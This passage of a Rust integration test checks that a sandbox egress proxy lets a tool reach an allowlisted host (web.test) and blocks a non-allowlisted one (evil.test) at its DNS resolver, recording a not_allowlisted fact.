    dns.set("web.test", &["127.0.0.2"]);
    dns.set("evil.test", &["127.0.0.2"]);
    let port = web.addr.port();
    let tools = format!(
        r#"
[tools.go]
network = "transparent"
egress = ["web.test:{port}"]

[tools.go.process]
command = ["{bin}", "http://web.test:{port}/", "http://evil.test:{port}/"]
protocol = "plain"
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 60000
"#,
        bin = bin.display(),
        isolation = strongest_isolation(),
    );
    let Stack { proxy, exec, .. } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    let res = exec.invoke(invocation("go", json!({}))).await;
    assert!(res.ok, "{res:#?}");
    let out = res.output.clone().unwrap();
    eprintln!("{out:#}");
    let lines: Vec<Value> = out["stdout"]
        .as_str()
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2, "{out:#}");
    assert_eq!(lines[0]["status"], json!(200), "{out:#}");
    assert_eq!(lines[0]["body"], json!("hello from origin"), "{out:#}");
    assert!(
        lines[1]["error"].as_str().is_some_and(|e| e.contains("no such host")),
        "{out:#}"
    );
    assert_denied_at_dns(&res.facts, &dns, "evil.test");
    exec.shutdown();
    exec.drain(Duration::from_secs(5)).await;
    drop(proxy);
}

/// `name` was refused at the sandbox's DNS: a `not_allowlisted` fact of
/// kind `dns` names it, and the upstream DNS was never asked for it.
fn assert_denied_at_dns(facts: &[egress_api::Fact], dns: &FakeDns, name: &str) {
    assert!(
        facts
            .iter()
            .any(|f| f.reason == "not_allowlisted"
                && f.target.as_ref().is_some_and(|t| t.kind == "dns" && t.host == name)),
        "{facts:#?}"
    );
    assert!(!dns.queries().iter().any(|q| q.contains(name)), "{:?}", dns.queries());
}
